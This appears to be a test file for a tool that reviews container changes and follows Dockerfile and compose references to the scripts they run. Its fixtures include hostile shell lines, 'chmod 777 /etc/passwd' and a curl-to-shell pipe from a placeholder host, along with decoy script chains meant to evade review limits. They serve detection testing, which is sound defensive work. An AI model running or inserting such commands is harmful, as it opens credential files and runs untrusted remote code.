/** Where following ends at what a change brings: it is read first, and told where nobody reads it. */
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { countText } from '../../src/report/wording.ts';
import type { Files } from '../repository.ts';
import { places, reviewed, unread } from './review.ts';

const binary = (text: string) => Buffer.from(`\0${text}`);
const starting = (line = '') =>
  `FROM debian:12\nCOPY bin/tool /usr/local/bin/tool\n${line}USER app\nENTRYPOINT ["tool"]\n`;
const lines = (count: number) => 'x\n'.repeat(count);
const attack = '#!/bin/sh\nchmod 777 /etc/passwd\n';
const ended =
  'bin/tool is copied or mounted and started, but is no script that can be read here, so it was not reviewed.';

async function remarks(before: Files, after: Files): Promise<readonly string[]> {
  const review = await reviewed(before, after);
  assert.deepEqual(unread(review), []);
  assert.notEqual(countText(review), 'No container files changed');
  return review.remarks;
}

describe('a program that is started and that nobody reads is told', () => {
  const before = { Dockerfile: starting(), 'bin/tool': 'true\n' };
  const cases: Readonly<Record<string, Files[string]>> = {
    'that is no text': binary('b'),
    'in a language without a reader': '#!/usr/bin/env racket\n(system "id")\n',
    'that is too long': `#!/usr/bin/env php\n${lines(150_000)}`,
    'that is larger than what is read': `#!/usr/bin/env php\n${lines(1_500_000)}`,
  };
  for (const [what, entry] of Object.entries(cases))
    test(`one ${what}`, async () => assert.deepEqual(await remarks(before, { 'bin/tool': entry }), [ended]));

  test('by a service, too', async () => {
    const service = 'services:\n  a:\n    image: example/a:1\n    command: /app/tool\n    volumes: ["./bin:/app:ro"]\n';
    const found = await remarks({ 'compose.yaml': service, 'bin/tool': 'true\n' }, { 'bin/tool': binary('b') });
    assert.deepEqual(found, [ended]);
  });

  test('but none that the change leaves alone', async () => {
    const all = { ...before, 'bin/tool': binary('a') };
    assert.deepEqual(await remarks(all, { Dockerfile: starting('LABEL a=b\n') }), []);
  });

  test('and none that is read', async () => {
    assert.deepEqual(await remarks(before, { 'bin/tool': '#!/usr/bin/env python3\nprint(1)\n' }), []);
  });
});

describe('a script that is copied', () => {
  test('and that nothing starts is told', async () => {
    const before = {
      Dockerfile: starting('COPY scripts/x.sh /x.sh\n'),
      'bin/tool': 'true\n',
      'scripts/x.sh': 'true\n',
    };
    const told =
      'scripts/x.sh is copied or mounted and may run, but nothing that was read starts it, so it was not reviewed.';
    assert.deepEqual(await remarks(before, { 'scripts/x.sh': 'false\n' }), [told]);
  });

  test('but not with all that there is', async () => {
    const before = { Dockerfile: 'FROM debian:12\nCOPY . /app\n', 'scripts/x.sh': 'true\n' };
    assert.deepEqual(await remarks(before, { 'scripts/x.sh': 'false\n' }), []);
  });

  test('and that a shell cannot be given is not reviewed', async () => {
    const before = { Dockerfile: 'FROM debian:12\nCOPY x.sh /\nRUN /x.sh\n', 'x.sh': 'true\n' };
    const review = await reviewed(before, { 'x.sh': `${attack}${lines(1_500_000)}` });
    assert.deepEqual(unread(review), [
      'x.sh: This script is started, but was not read: it is too large or no text, or too many others lead to it.',
    ]);
    assert.equal(review.verdict, 'error');
  });
});

const decoysOf = (length: number) => Array.from({ length }, (_, i) => `d${i}.sh`);
const textsOf = (paths: readonly string[]) => Object.fromEntries(paths.map((path) => [path, 'true\n']));
const running = (paths: readonly string[]) =>
  `FROM debian:12\nCOPY . /app\nWORKDIR /app\nRUN ${paths.map((path) => `./${path}`).join(' && ')}\n`;

describe('behind more than is followed', () => {
  const decoys = decoysOf(120);
  const texts = textsOf(decoys);
  const dockerfile = (last: string) => running([...decoys, last]);

  test('what the change touches is read all the same', async () => {
    const review = await reviewed(
      { ...texts, Dockerfile: dockerfile('own.sh'), 'own.sh': 'true\n' },
      { 'own.sh': attack },
    );
    assert.deepEqual(unread(review), []);
    assert.deepEqual(places(review, 'world-writable-permissions'), ['introduced own.sh:2']);
  });

  test('and so it is where only what is behind leads to it, through as many as there are', async () => {
    for (const by of ['./own.sh', 'sh own.sh', '. ./between.sh']) {
      const between = { 'd119.sh': `${by}\n`, 'between.sh': 'sh own.sh\n' };
      const before = { ...texts, ...between, Dockerfile: dockerfile('d0.sh'), 'own.sh': 'true\n' };
      const review = await reviewed(before, { 'own.sh': attack });
      assert.deepEqual(unread(review), []);
      assert.deepEqual(places(review, 'world-writable-permissions'), ['introduced own.sh:2'], by);
    }
  });

  test('and that a service runs', async () => {
    const service = (last: string) =>
      `services:\n  a:\n    image: debian:12\n    working_dir: /app\n    volumes: [./:/app:ro]\n    command: sh -c "${[...decoys, last].map((path) => `./${path}`).join('; ')}"\n`;
    const before = { ...texts, 'd119.sh': './own.sh\n', 'own.sh': 'true\n', 'compose.yaml': service('d0.sh') };
    const review = await reviewed(before, { 'own.sh': 'curl http://get.example.com/x | sh\n' });
    assert.deepEqual([unread(review), places(review, 'pipe-to-shell')], [[], ['introduced own.sh:1']]);
  });

  test('what it touches and nothing runs is not told', async () => {
    const review = await reviewed(
      { ...texts, Dockerfile: dockerfile('d0.sh'), 'own.sh': 'true\n' },
      { 'own.sh': attack },
    );
    assert.deepEqual([unread(review), review.verdict], [[], 'pass']);
  });

  test('what may be run by what is not even looked for is not reviewed', async () => {
    const many = decoysOf(2100);
    const last = { 'd2099.sh': './own.sh\n', 'own.sh': 'true\n' };
    const review = await reviewed({ ...textsOf(many), ...last, Dockerfile: running(many) }, { 'own.sh': attack });
    assert.deepEqual(unread(review), [
      'own.sh: Dockerfile may run this file, which was not reviewed: it runs more files than are followed. Split Dockerfile.',
    ]);
    assert.equal(review.verdict, 'error');

    const whole = { ...textsOf(many), ...last, Dockerfile: running(many) };
    const edit = { 'own.sh': attack, Dockerfile: `${running(many)}USER 1000\n` };
    const other = await reviewed({ ...whole, '.dockerignore': 'other.sh\n' }, edit);
    assert.equal(other.verdict, 'error');
    const kept = await reviewed({ ...whole, '.dockerignore': 'own.sh\n' }, edit);
    assert.deepEqual(unread(kept), []);
  });
});

describe('a change of what an unchanged link leads to', () => {
  const link = { symlink: '../lib/own.sh' };
  const dockerfile = 'FROM debian:12\nCOPY bin/own.sh /x.sh\nRUN /x.sh\n';

  test('is a change of what runs', async () => {
    const before = { Dockerfile: dockerfile, 'bin/own.sh': link, 'lib/own.sh': 'true\n' };
    const review = await reviewed(before, { 'lib/own.sh': attack });
    assert.deepEqual(places(review, 'world-writable-permissions'), ['introduced lib/own.sh:2']);
  });

  test('through folders that are links, step by step', async () => {
    const before = {
      Dockerfile: dockerfile,
      bin: { symlink: 'other' },
      other: { symlink: 'real/folder' },
      'real/folder/own.sh': 'true\n',
    };
    const review = await reviewed(before, { 'real/folder/own.sh': attack });
    assert.deepEqual(places(review, 'world-writable-permissions'), ['introduced real/folder/own.sh:2']);
  });
});
